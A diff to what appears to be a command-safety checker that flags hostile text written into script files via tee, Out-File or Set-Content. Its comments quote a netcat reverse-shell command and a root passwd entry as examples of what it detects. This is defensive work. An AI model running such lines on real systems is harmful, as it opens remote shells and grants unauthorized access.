@@ -202,6 +202,10 @@ _CMDLET = lazy_re(
 """A cmdlet's name as PowerShell writes it: an approved verb, capitalised, and a capitalised noun
 (`Get-DomainUser`, `Invoke-PassTheCert`). No POSIX program is named so (theirs are lower case:
 `add-apt-repository`, `update-alternatives`)."""
+_TEXT_INTO_FILES = frozenset({"tee", "sponge", "tee-object", "out-file", "set-content", "add-content"})
+"""Programs that write the text they are given into the files they name (see `_piped_into_files`)."""
+_VALUE_WRITERS = frozenset({"set-content", "add-content"})
+"""Cmdlets also given their text by `-Value` (or as the word after the path)."""
 _STREAMS = frozenset({"-", "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "$null", "nul", "nul:"})
 
 
@@ -248,6 +252,44 @@ def asks_help_only(argv: list[Arg], dialect: Dialect, names: tuple[str, ...]) ->
     if flag == "/?":
         return dialect == "cmd" or (dialect == "powershell" and len(names) == 1 and "-" not in names[0])
     return False
+
+
+_CONTENT_SWITCHES = frozenset(
+    {"-force", "-passthru", "-nonewline", "-asbytestream", "-whatif", "-confirm", "-verbose", "-debug"}
+)
+"""Set-Content's and Add-Content's parameters that take no value."""
+
+
+def _given_value(argv: list[Arg]) -> str | None:
+    """The text `Set-Content F -Value TEXT` (or `Set-Content F TEXT`) writes, when literal: one word, or the
+    lines of an array written as one argument (`-Value 'a', 'b'`)."""
+    value: list[Arg] | None = None
+    positional: list[list[Arg]] = []
+    current: list[Arg] | None = None  # what the word before bound to: an array's later elements join it
+    taking: list[Arg] | None = None  # where the next word goes after a parameter that takes one
+    for a in argv[1:]:
+        if a.follows and current is not None:
+            current.append(a)
+        elif taking is not None:
+            taking.append(a)
+            current, taking = taking, None
+        elif a.param:
+            key, colon, rest = a.text.lower().partition(":")
+            if len(key) > 2 and "-value".startswith(key):
+                value = [Arg(rest, rest)] if colon else []
+                current, taking = value, (None if colon else value)
+            else:
+                current = None
+                if key not in _CONTENT_SWITCHES and not colon:
+                    taking = []  # another parameter's value
+        else:
+            current = [a]
+            positional.append(current)
+    if value is None and len(positional) > 1:
+        value = positional[1]
+    if not value or any(DYN in a.text for a in value):
+        return None
+    return "\n".join(a.text for a in value) + "\n"
 
 
 def _cmd_writes_nothing(argv: list[Arg]) -> bool:
@@ -1152,6 +1194,8 @@ class Evaluation(RunsOtherCode, WordChecks):
             self._arguments(args, argv, info, frame, wrapper, looked_up=True)
         if feeds and dialect == "powershell" and not PIPED_PATH_WRITERS.isdisjoint(names):
             self._judge_piped_paths(names, argv, feeds, stdin, frame)
+        if not _TEXT_INTO_FILES.isdisjoint(names):
+            self._piped_into_files(next(n for n in names if n in _TEXT_INTO_FILES), argv, stdin, frame)
         if info.acts:
             self._acts(info, argv, frame, stdin, wrapped, inner_feeds)
         elif (self.written or self.copied) and ("/" in word or "\\" in word):
@@ -1594,22 +1638,37 @@ class Evaluation(RunsOtherCode, WordChecks):
                 held = [Arg(a.text.replace(DYN, _RUN_TIME_PART), a.raw) for a in writer]
                 text = static_output(held, None, frame.dialect)
             self._last_output = (writer, frame.dialect, text)
-        path = target.text.replace("\\", "/")
         if not text or text.isspace():
             if whole is not None and stdin is not None:
-                self._fed_script(path, writer, stdin, frame, whole)
+                self._fed_script(target.text.replace("\\", "/"), writer, stdin, frame, whole)
             return
+        language = self._judge_written_text(target, text, frame, writer)
+        if language is not None and whole is not None and not any(DYN in a.text for a in writer):
+            self.known_scripts[whole] = (language, None)
+
+    def _judge_written_text(self, target: Arg, text: str, frame: Frame, writer: list[Arg]) -> str | None:
+        """Judge `text` that `writer` puts into the file `target`; the file's script language, if any."""
         # What any file is given to hold (`… 'x:…:0:0:…' >> /tmp/passwd.bak`): lines staged to be copied where
         # they grant something, judged by the policy's `file-text` payload rules wherever they are written.
         self.payload(FILE_TEXT, text, frame, writer)
-        language = self._script_language(path, text, frame)
-        if language is None:
+        language = self._script_language(target.text.replace("\\", "/"), text, frame)
+        if language is not None:
+            inner = frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes")
+            self._judge_script(text, language, inner, writer)
+        return language
+
+    def _piped_into_files(self, name: str, argv: list[Arg], stdin: Stdin | None, frame: Frame) -> None:
+        """`echo 'nc -e /bin/sh h 4444' | tee -a x.sh`, `'…' | Out-File x.ps1`, `Set-Content x.ps1 -Value
+        '…'`: text known before the line runs, written into files by a program, is judged as a redirect's
+        is (see `_written_script`)."""
+        text = _given_value(argv) if name in _VALUE_WRITERS else None
+        if text is None and stdin is not None and stdin.feed is not None:
+            text = stdin.text()
+        if not text or text.isspace():
             return
-        if whole is not None and not any(DYN in a.text for a in writer):
-            self.known_scripts[whole] = (language, None)
-        self._judge_script(
-            text, language, frame.nested(f"the script `{target.raw}` that `{writer[0].raw}` writes"), writer
-        )
+        for target in write_targets(name, argv[1:], frame.dialect, through_links=False):
+            if DYN not in target.text and target.text.lower() not in _STREAMS and target.raw[:2] != ">(":
+                self._judge_written_text(target, text, frame, argv)
 
     def _fed_script(self, path: str, writer: list[Arg], stdin: Stdin, frame: Frame, key: str) -> None:
         """A script written whole from the writer's input (`cat > x.py <<'EOF'`): writing code is no run, so
